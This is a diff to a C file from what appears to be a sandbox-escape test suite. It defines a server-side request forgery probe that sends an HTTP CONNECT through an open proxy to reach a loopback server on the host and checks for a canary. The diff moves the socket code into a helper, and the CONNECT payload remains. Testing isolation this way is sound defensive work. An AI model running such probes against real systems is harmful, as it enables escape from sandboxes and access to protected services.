@@ -1,26 +1,13 @@
 /* A server on the host's loopback, through the box's proxy. */
 #include "../attack.h"
 
-#include "dial.h"
+#include "proxy.h"
 
 ATTACK(NETWORK, "names",
        .gain = "a server of the host's, which the broker can reach and the box cannot",
        .source = "server-side request forgery (CWE-918)", .works = SOME_KERNELS,
        .needs = "an open proxy", .flags = NETWORKS)
 {
-	struct sockaddr_in a = at4("127.0.0.1", *target("proxy") ? target_number("proxy") : 3128);
-	char request[512], answer[512] = "";
-	int fd = socket_soon(AF_INET, SOCK_STREAM), n;
-
-	if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0)
-		return -1;
-	n = snprintf(request, sizeof(request),
-		     "CONNECT 127.0.0.1:%s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", needed("port"));
-	if (send(fd, request, (size_t)n, MSG_NOSIGNAL) != n ||
-	    recv(fd, answer, sizeof(answer) - 1, 0) <= 0)
-		return -1;
-	if (strstr(answer, CANARY))
-		return 0;
-	/* Opened; then the server speaks first. */
-	return strncmp(answer, "HTTP/1.1 200", 12) == 0 ? read_canary(fd) : denied(EACCES);
+	return proxy_canary("CONNECT 127.0.0.1:%s HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
+			    needed("port"));
 }
